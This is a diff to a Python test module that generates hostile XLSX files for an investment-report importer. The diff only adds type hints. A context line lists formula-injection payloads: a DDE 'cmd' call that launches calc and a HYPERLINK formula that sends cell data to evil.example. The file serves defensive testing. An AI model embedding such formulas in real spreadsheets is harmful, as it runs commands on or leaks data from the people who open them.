@@ -11,12 +11,12 @@ from __future__ import annotations
 import io
 import random
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 
 from touzi.imports.tests import hostile
 
 REPORT_HEADER = ["项目代码", "项目名称", "报告期", "本月完成投资(万元)", "形象进度", "存在问题"]
-GOOD_ROWS = [["2021-450521-26-03-000001", "甲公司新材料工厂", "2023-03", 1200.5, "主体完工", ""],
+GOOD_ROWS: list[Sequence[object]] = [["2021-450521-26-03-000001", "甲公司新材料工厂", "2023-03", 1200.5, "主体完工", ""],
              ["2021-450521-26-03-000002", "甲公司园区标准厂房", "2023-03", "300", "", "用地指标未落实"]]
 ROWS = [REPORT_HEADER, *GOOD_ROWS]
 
@@ -197,7 +197,8 @@ _FORMULAS = ['cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example/?"&A1,"点击"
 def _formulas() -> Iterator[Case]:
     for n, formula in enumerate(_FORMULAS):
         for cached in (None, "1200", 7):
-            rows = [REPORT_HEADER, [GOOD_ROWS[0][0], "工厂", "2023-03", hostile.Formula(formula, cached), "", ""]]
+            row = [GOOD_ROWS[0][0], "工厂", "2023-03", hostile.Formula(formula, cached), "", ""]
+            rows: list[Sequence[object]] = [REPORT_HEADER, row]
             yield "formula", f"formula {n} cached {cached!r}", hostile.xlsx(rows)
 
 
